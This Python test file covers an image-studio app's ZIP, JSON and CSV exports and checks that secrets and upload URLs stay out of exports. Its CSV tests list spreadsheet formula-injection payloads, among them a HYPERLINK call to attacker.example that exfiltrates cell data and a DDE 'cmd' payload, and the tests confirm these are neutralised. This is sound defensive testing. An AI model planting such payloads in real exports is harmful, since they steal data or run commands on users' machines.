"""ZIP and JSON exports."""

from __future__ import annotations

import io
import json
import zipfile

from PIL import Image

from kie.export import TASKS_JSON, history_json, image_download, image_file_name, view_zip_name, zip_images, zip_name
from kie.models import GenerateRequest, Task
from kie.pngmeta import read_settings

SECRET = "tok-9c1e77a0b3d54f2a"


def done_task(store, task_id, prompt, images=2):
    task = Task(task_id=task_id, kind="text", request=GenerateRequest(prompt=prompt), state="success",
                result_urls=[f"https://e.com/{task_id}/{i}.png" for i in range(images)], created_at=1764000000.0)
    task.images = [store.save_image(task_id, i, f"png {task_id} {i}".encode()) for i in range(images)]
    store.add(task)
    return task


def test_zip_holds_every_image_named_by_date_prompt_and_task(store):
    a = done_task(store, "task_aaaaaa", "A red fox!", 2)
    b = done_task(store, "task_bbbbbb", "blue whale", 1)
    archive = zipfile.ZipFile(io.BytesIO(zip_images(store, [a, b])))
    names = sorted(n for n in archive.namelist() if n != TASKS_JSON)
    assert len(names) == 3
    assert any(n.endswith("-a-red-fox-aaaaaa-1.png") for n in names)
    assert archive.read(image_file_name(b, 0)) == b"png task_bbbbbb 0"


def test_zip_skips_images_missing_from_the_cache(store):
    a = done_task(store, "task_cccccc", "gone", 2)
    store.image_path(a.task_id, a.images[1]).unlink()
    archive = zipfile.ZipFile(io.BytesIO(zip_images(store, [a])))
    assert sorted(archive.namelist()) == sorted([image_file_name(a, 0), TASKS_JSON])
    assert json.loads(archive.read(TASKS_JSON))["tasks"][0]["images"] == [image_file_name(a, 0)]


def test_zip_names():
    task = Task(task_id="t1", kind="text", request=GenerateRequest(prompt="Sunset / over: sea"), created_at=0)
    assert zip_name(task).endswith("-sunset-over-sea.zip")
    assert view_zip_name("red fox").endswith("-red-fox.zip") and view_zip_name("").endswith("-history.zip")


def test_json_export_has_parameters_states_times_and_urls_and_no_key(store):
    task = done_task(store, "task_dddddd", "export me")
    data = json.loads(history_json([task]))
    record = data["tasks"][0]
    assert record["taskId"] == "task_dddddd" and record["state"] == "success"
    assert record["params"]["prompt"] == "export me" and record["params"]["size"] == "1:1"
    assert record["resultUrls"] == task.result_urls and record["createdAt"].startswith("2025-11-24")
    assert "Bearer" not in json.dumps(data) and "key" not in json.dumps(data).lower()


def png_bytes(colour: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), colour).save(out, format="PNG")
    return out.getvalue()


def picture_task(store, task_id: str, prompt: str, colours=("red", "blue"), **request) -> Task:
    req = GenerateRequest.from_dict({"prompt": prompt, "n_variants": len(colours), "size": "2:3", **request})
    task = Task(task_id=task_id, kind=req.kind, request=req, state="success", created_at=1764000000.0,
                result_urls=[f"https://tempfile.example/{task_id}/{i}.png" for i in range(len(colours))])
    task.images = [store.save_image(task_id, i, png_bytes(c)) for i, c in enumerate(colours)]
    store.add(task)
    return task


def test_zip_pictures_carry_their_task_and_tasks_json_lists_every_task(store):
    fox = picture_task(store, "task_fox001", "Ein Fuchs 🦊 im Schnee", is_enhance=True)
    whale = picture_task(store, "task_whale2", "blue whale", colours=("navy",))
    archive = zipfile.ZipFile(io.BytesIO(zip_images(store, [fox, whale])))
    restored = read_settings(archive.read(image_file_name(fox, 1)))
    assert restored.task_id == "task_fox001" and restored.prompt == "Ein Fuchs 🦊 im Schnee"
    assert restored.request.option("size") == "2:3" and restored.request.option("is_enhance") is True
    with Image.open(io.BytesIO(archive.read(image_file_name(whale, 0)))) as image:
        assert image.getpixel((10, 10)) == (0, 0, 128)  # the picture itself is untouched
    manifest = json.loads(archive.read(TASKS_JSON))
    assert [t["taskId"] for t in manifest["tasks"]] == ["task_fox001", "task_whale2"]
    record = manifest["tasks"][0]
    assert record["prompt"] == "Ein Fuchs 🦊 im Schnee" and record["model"] == "gpt-4o-image"
    assert record["kind"] == "text" and record["date"] == "2025-11-24T16:00:00Z" and record["state"] == "success"
    assert record["parameters"]["nVariants"] == 2 and record["images"] == [image_file_name(fox, i) for i in (0, 1)]
    assert manifest["software"].startswith("4o Image Studio")


def test_no_secret_or_upload_url_in_a_zip_a_download_or_the_json_export(store):
    task = picture_task(store, "task_edit01", "make it snow", colours=("green",),
                        callback_url=f"https://studio.example/api/kie/callback/{SECRET}",
                        files_url=("https://kieai.redpandaai.co/u/source.png",),
                        mask_url="https://kieai.redpandaai.co/u/mask.png")
    task.callback_token, task.owner = SECRET, "ada@example.com"  # kept by the store, never handed out
    archive_bytes = zip_images(store, [task])
    archive = zipfile.ZipFile(io.BytesIO(archive_bytes))
    everything = archive_bytes + b"".join(archive.read(n) for n in archive.namelist())
    single = image_download(store, task, 0)
    for leak in (SECRET.encode(), b"redpandaai", b"callback", b"ada@example.com"):
        assert leak not in everything and leak not in single and leak not in history_json([task])
    assert read_settings(single).kind == "edit"


# -- spreadsheet-safe CSV ------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"details")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A2)",
    "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0", "-", "@", "=",
]
HARMLESS = ["a red fox", "", "1+1=2", "carol@example.com", "'quoted", "naïve café", "x\n=1", " =1"]


def read_csv(data: bytes) -> list[list[str]]:
    import csv as csv_module

    return list(csv_module.reader(io.StringIO(data.decode(), newline="")))


def test_every_formula_start_is_neutralised_and_everything_else_kept_exactly():
    from kie.export import csv_bytes

    rows = [{"text": value, "n": -3.5} for value in FORMULAS + HARMLESS]
    table = read_csv(csv_bytes(rows, ["text", "n"]))
    assert table[0] == ["text", "n"]
    cells = [row[0] for row in table[1:]]
    assert cells == ["'" + v for v in FORMULAS] + HARMLESS
    assert all(row[1] == "-3.5" for row in table[1:])  # a number is a number, not a formula someone typed
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for c in row[:1])


def test_the_admin_csvs_neutralise_a_deleted_prompt_and_a_hostile_name_but_json_stays_exact(store):
    """The attack of issue 18: a prompt deleted into the audit log, a sign-in name starting with '='."""
    from kie.export import csv_bytes

    prompt = FORMULAS[0]
    done_task(store, "task_hostile", prompt, 1)
    store.audit("=evil@example.com", "delete", "task_hostile", prompt[:80], 1764000000.0)
    table = read_csv(csv_bytes(store.audit_log(), ["actor", "action", "target", "detail"]))
    assert table[1] == ["'=evil@example.com", "delete", "task_hostile", "'" + prompt]
    exported = json.loads(history_json(store.query(limit=-1)))
    assert exported["tasks"][0]["params"]["prompt"] == prompt


def test_exports_carry_the_figures_the_cards_show(store):
    """The JSON export and a ZIP's tasks.json say a task's state, size and cost in the cards' words: a failed task
    measured at 1.5 credits is "nothing charged", a Seedream task's size names its 4K."""
    failed = Task(task_id="task_ffffff", kind="text", request=GenerateRequest(prompt="a fox"), state="failed",
                  credits=1.5, created_at=1764000000.0)
    seedream = done_task(store, "task_ssssss", "a fox at 4K", 1)
    seedream.request = GenerateRequest.build("seedream-4.5", "a fox at 4K", {"aspect_ratio": "16:9",
                                                                             "quality": "high"})
    seedream.model = "seedream-4.5"
    records = {r["taskId"]: r for r in json.loads(history_json([failed, seedream]))["tasks"]}
    assert (records["task_ffffff"]["cost"], records["task_ffffff"]["costCredits"]) == ("nothing charged", 0.0)
    assert records["task_ffffff"]["stateWords"] == "Failed"
    assert records["task_ssssss"]["size"] == "16:9 · High (4K)"
    assert records["task_ssssss"]["cost"] == "about 1.6 credits (estimate)"
    assert records["task_ssssss"]["costIsEstimate"] is True
    archive = zipfile.ZipFile(io.BytesIO(zip_images(store, [seedream])))
    [record] = json.loads(archive.read(TASKS_JSON))["tasks"]
    assert (record["size"], record["cost"], record["stateWords"]) == ("16:9 · High (4K)",
                                                                      "about 1.6 credits (estimate)", "Done")
